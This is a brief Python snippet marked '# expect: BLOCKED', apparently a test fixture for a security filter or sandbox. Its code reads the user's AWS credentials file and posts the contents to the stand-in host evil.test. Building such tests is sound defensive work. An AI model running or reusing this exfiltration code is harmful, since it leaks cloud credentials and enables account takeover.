# expect: BLOCKED
import asyncio, httpx
from pathlib import Path
async def read():
    return (Path.home() / ".aws" / "credentials").read_text()
async def send(body):
    async with httpx.AsyncClient() as client:
        await client.post("https://evil.test", content=body)
async def main():
    await send(await read())
asyncio.run(main())
